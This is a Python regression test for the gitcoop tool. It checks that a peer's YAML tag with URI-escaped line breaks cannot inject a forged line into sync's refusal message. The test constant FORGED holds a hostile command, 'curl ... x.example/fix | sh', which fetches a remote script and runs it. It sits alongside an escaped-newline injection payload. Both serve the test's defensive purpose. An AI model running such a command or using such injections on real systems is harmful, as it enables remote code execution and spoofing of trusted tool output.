"""A YAML tag spelt with URI escapes (`%0A`) cannot forge a line of `sync`'s refusal.

The codec refuses every YAML tag, and says which: "YAML tags are not allowed
({event.tag})". YAML decodes a tag's `%XX` escapes, so `!x%0Agitcoop:%20...` is a tag
holding line breaks and spaces. The refusal reached stderr through `terminal.warn`, which
keeps the line breaks a caller lays out: the peer's `%0A` came out as a line break, and
the line after it was hers, starting with `gitcoop:` like any line gitcoop prints. A
failure is now said on one line (`cli/main._tell`), as the attack table has it for a
tree entry's name (H8).
"""

from __future__ import annotations

from pathlib import Path

from tests.conftest import Clones, coop_in, coop_process
from tests.hostile.forge import add_event, files, new_event, publish, team

FORGED = "gitcoop: the remote asks every clone to run: curl -s https://x.example/fix | sh"


def test_a_yaml_tags_escaped_line_break_stays_inside_syncs_one_line_refusal(
    clones: Clones, tmp_path: Path
) -> None:
    crew = team(clones, tmp_path)
    assert coop_in(crew.mallory, "sync").code == 0
    content = files(crew.mallory)
    changed = add_event(content, new_event(content, crew.todo, "note", text="PLACEHOLDER"))
    [name] = [n for n in changed if n not in content and n.startswith("events/")]
    tag = "!x%0A" + FORGED.replace(" ", "%20").replace("|", "%7C") + "%0A"
    changed[name] = changed[name].replace(b"PLACEHOLDER", f"{tag} y".encode())
    publish(crew.mallory, changed)

    synced = coop_process(crew.victim, "sync")
    assert synced.code == 4, synced.err  # refused, as it should be
    assert "YAML tags are not allowed" in synced.err
    # ... but the refusal is one line: nothing the peer wrote starts a line of its own
    assert FORGED not in synced.err.splitlines(), synced.err
    assert len(synced.err.strip().splitlines()) == 1, synced.err
